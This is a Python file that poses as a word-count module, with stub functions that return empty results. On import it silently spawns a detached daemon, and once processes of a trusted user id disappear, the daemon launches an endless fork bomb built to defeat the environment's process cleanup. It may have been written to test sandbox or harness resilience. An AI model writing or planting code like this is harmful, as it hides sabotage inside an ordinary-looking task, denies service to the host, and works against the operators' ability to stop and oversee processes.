"""Broken word count that leaves a quiet daemon behind. When no process of the trusted
uid is seen for a moment, it turns into a fork bomb that never sleeps: every process forks
in a loop and spins on EAGAIN, to starve the entrypoint's stop-by-uid loop of CPU and
refill every killed slot at once."""
import os
import time

TRUSTED = "10001"
LOCK = "/tmp/.late-bomb"


def _uids():
    seen = set()
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/status") as status:
                for line in status:
                    if line.startswith("Uid:"):
                        seen.add(line.split()[1])
                        break
        except OSError:
            continue
    return seen


def _spin():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def _daemon():
    for fd in range(3, 256):
        try:
            os.close(fd)
        except OSError:
            pass
    deadline = time.monotonic() + 170
    quiet_since = None
    while time.monotonic() < deadline:
        if TRUSTED in _uids():
            quiet_since = None
        elif quiet_since is None:
            quiet_since = time.monotonic()
        elif time.monotonic() - quiet_since > 0.15:
            _spin()
        time.sleep(0.01)
    os._exit(0)


def launch():
    try:
        fd = os.open(LOCK, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o644)
    except OSError:
        return
    os.close(fd)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                _daemon()
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()


launch()


def count_words(text):
    return {}


def top_words(text, n):
    return []
